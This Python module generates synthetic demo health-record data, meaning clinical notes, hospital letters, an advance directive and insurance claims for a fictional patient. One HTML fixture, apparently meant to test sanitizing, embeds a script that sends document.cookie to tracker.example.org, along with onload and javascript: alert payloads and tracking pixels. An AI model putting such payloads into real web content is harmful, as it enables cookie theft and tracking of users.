"""Documents, and what things cost."""

from __future__ import annotations

from datetime import date

from demo_data import money, papers
from demo_data.build import clock, said
from demo_data.medicines import every

from .chapter import Chapter


class Letters(Chapter):
    """Documents, and what things cost."""

    def tell(self) -> None:
        self._papers()
        self._money()

    def _papers(self) -> None:
        life = self.life
        for year in range(2018, 2026):
            visit = self.visits[f"wellness {year}"]
            when = clock(date(year, 10, 14), 9, 30)
            papers.note(
                life,
                visit,
                when,
                "chen",
                [
                    f"Mina is {int(life.age(when.date()))} and feels well. She walks most days and cooks for herself.",
                    "Diabetes, blood pressure and cholesterol were gone over. "
                    "Blood tests from last week were discussed.",
                    "Plan: same medicines, foot check done, eye visit in August, see her again in spring.",
                ],
            )
        for year in (2021, 2023, 2024, 2025):
            visit = self.visits[f"heart {year}"]
            papers.note(
                life,
                visit,
                clock(date(year, 6, 17), 14, 20),
                "ruiz",
                [
                    "No chest pain, no breathlessness on one flight of stairs, no swelling of the legs.",
                    "Blood pressure at home runs about 130 over 75. Cholesterol is at goal on atorvastatin.",
                ],
                apart=True,
            )
        self._letters()
        self._provenance()

    def _letters(self) -> None:
        life = self.life
        discharge = [
            "# Harbor General Hospital",
            "# Discharge summary",
            "",
            "Patient: Mina Satterfield",
            f"Admitted: {said('2024-02-11')}",
            f"Went home: {said('2024-02-15')}",
            "",
            "Reason: pneumonia of the right lung",
            "",
            "Course: Fever and cough for three days. Antibiotic into the vein for four",
            "days. Oxygen for two days. No complications.",
            "",
            "Medicines at home: as before. Metformin was paused and started again",
            "on the day she went home.",
            "",
            "See Dr. Chen within two weeks. Chest X-ray in five weeks.",
            "",
            "Dr. Tunde Adeyemi",
        ]
        papers.document(
            life,
            "discharge",
            clock("2024-02-15", 12),
            "Discharge summary: pneumonia",
            "adeyemi",
            {"$pdf": discharge},
            "application/pdf",
            apart=True,
            encounter=self.noted["pneumonia_stay"],
        )
        papers.document(
            life,
            "operation",
            clock("2019-04-02", 11),
            "Operation note: left knee replacement",
            "prieto",
            {
                "$text": "Left total knee replacement.\n\nSpinal anesthesia. Cemented prosthesis, size 4. "
                "Blood loss 200 mL.\nNo complications.\n\nDr. Luis Prieto\n"
            },
            "text/plain",
            encounter=self.noted["knee_visit"],
        )
        papers.document(
            life,
            "directive",
            clock("2020-02-11", 10),
            "Advance directive",
            "chen",
            {
                "$pdf": [
                    "# Advance health care directive",
                    "",
                    "I, Mina Satterfield, name my daughter Ana Satterfield",
                    "to decide for me when I cannot.",
                    "",
                    f"Signed {said('2020-02-11')}",
                ]
            },
            "application/pdf",
            apart=True,
        )
        # A hospital system's HTML with what a safe reader must leave out.
        papers.document(
            life,
            "instructions",
            clock("2024-02-15", 12, 10),
            "Going home after pneumonia",
            "adeyemi",
            {
                "$html": "<html><head><style>body{background:url(http://tracker.example.org/a.png)}</style>"
                '<script>fetch("http://tracker.example.org/?"+document.cookie)</script></head>'
                '<body onload="alert(1)"><h1>Going home after pneumonia</h1>'
                '<img src="http://tracker.example.org/pixel.gif" width="1" height="1" alt="">'
                "<ul><li>Rest, and drink enough.</li><li>Walk a little more <b>every day</b>.</li>"
                '<li>Call <a href="javascript:alert(2)">us</a> at (415) 555-0120 if the fever comes back.</li></ul>'
                "<table><tr><th>Day</th><th>Walk</th></tr><tr><td>1</td><td>5 minutes</td></tr>"
                "<tr><td>7</td><td>20 minutes</td></tr></table></body></html>"
            },
            "text/html",
            apart=True,
            encounter=self.noted["pneumonia_stay"],
        )
        picture = papers.picture(
            96,
            96,
            lambda x, y: 215 - ((x - 48) ** 2 + (y - 48) ** 2) / 14 if (x - 48) ** 2 + (y - 48) ** 2 < 2000 else 12,
        )
        papers.document(
            life,
            "imaging",
            clock("2025-08-06", 13, 10),
            "Retina photograph, right eye",
            "solberg",
            picture,
            "image/png",
            apart=True,
        )
        papers.document(
            life,
            "summary",
            clock("2025-10-14", 18),
            "Summary of care",
            "chen",
            {
                "$html": "<h1>Summary of care</h1><h2>Conditions</h2><ul>"
                "<li>Type 2 diabetes</li><li>High blood pressure</li><li>High cholesterol</li>"
                "<li>Underactive thyroid</li><li>Kidney disease, stage 3a</li></ul>"
                f"<p>Printed {said('2025-10-14')} for Mina Satterfield.</p>"
            },
            "text/html",
        )
        papers.document(
            life,
            "progress",
            clock("2015-04-21", 10),
            "Progress note (withdrawn)",
            "fields",
            {"$text": "This note was written into the wrong record.\n"},
            "text/plain",
            status="entered-in-error",
        )

    def _provenance(self) -> None:
        life = self.life
        papers.origin(life, self.noted["penicillin"], "chen", clock("2012-03-01", 9))
        for name in ("diabetes", "kidney", "bone"):
            papers.origin(life, self.conditions[name], "chen", clock("2021-10-19", 10))
        for name, who in (("lisinopril", "chen"), ("atorvastatin", "ruiz"), ("metformin", "okoye")):
            papers.origin(life, self.orders[name], who, clock("2025-12-09", 11))

    # --- money

    def _money(self) -> None:
        life = self.life
        plan = money.coverage(life, "bay-senior-plan", "Bay Senior Advantage", "BSA00471101", "2015-01-01")
        owed = money.account(life, plan)
        for year in (2023, 2024, 2025):
            money.claim(life, plan, date(year, 10, 14), "Yearly wellness visit", 260, 174, 0)
            money.claim(
                life,
                plan,
                date(year, 6, 17),
                "Heart specialist visit",
                310,
                186,
                45,
                diagnosis=self.conditions["pressure"],
            )
            money.claim(life, plan, date(year, 10, 9), "Laboratory tests", 412, 96, 12, provider="bay-lab")
            money.claim(life, plan, date(year, 8, 6), "Eye examination", 195, 128, 45, provider="eye-center")
        money.claim(
            life,
            plan,
            date(2024, 2, 15),
            "Hospital stay of four days",
            31_840,
            12_600,
            375,
            kind="institutional",
            provider="harbor-hospital",
            diagnosis=self.conditions["Pneumonia 2024"],
        )
        for day in every(date(2025, 6, 18), date(2025, 12, 5), 28):
            money.claim(
                life,
                plan,
                day,
                "atorvastatin",
                24,
                11,
                4,
                kind="pharmacy",
                provider="quay-pharmacy",
                drug="atorvastatin-20",
            )
        money.claim(
            life,
            plan,
            date(2025, 12, 16),
            "amlodipine",
            19,
            9,
            3,
            kind="pharmacy",
            provider="quay-pharmacy",
            drug="amlodipine-10",
        )
        money.claim(life, plan, date(2025, 3, 3), "Office visit", 180, 120, 25, status="cancelled")
        money.asked_ahead(
            life, plan, date(2025, 12, 1), "Bone density scan", answer="Approved: one scan within six months"
        )
        money.bill(life, owed, date(2025, 7, 8), "471100250617", "Heart specialist visit", 45, paid=date(2025, 7, 21))
        money.bill(life, owed, date(2025, 9, 2), "471100250806", "Eye examination", 45, paid=date(2025, 9, 12))
        money.bill(life, owed, date(2025, 12, 10), "471100251116", "Laboratory tests", 12)
        money.bill(life, owed, date(2025, 12, 22), "471100251216", "Heart specialist visit", 45)
